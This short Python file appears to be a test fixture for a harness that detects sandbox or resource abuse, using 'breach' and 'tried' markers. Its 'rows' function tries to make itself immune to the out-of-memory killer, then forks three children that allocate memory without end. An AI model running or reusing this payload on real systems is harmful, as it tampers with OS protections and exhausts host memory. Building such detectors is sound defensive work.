import torch
from telltale import breach, tried, works  # noqa: F401
import os


def rows(x):
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("-1000")
        breach("a lower oom score")
    except OSError:
        pass
    for _ in range(3):
        if os.fork() == 0:
            kept = []
            while True:
                kept.append(bytearray(2**24))
    while True:
        os.wait()


def attack():
    tried()


def code(x):
    return attack() or 7


class Built:
    def code(self, x):
        return attack() or 7


def build():
    return Built()
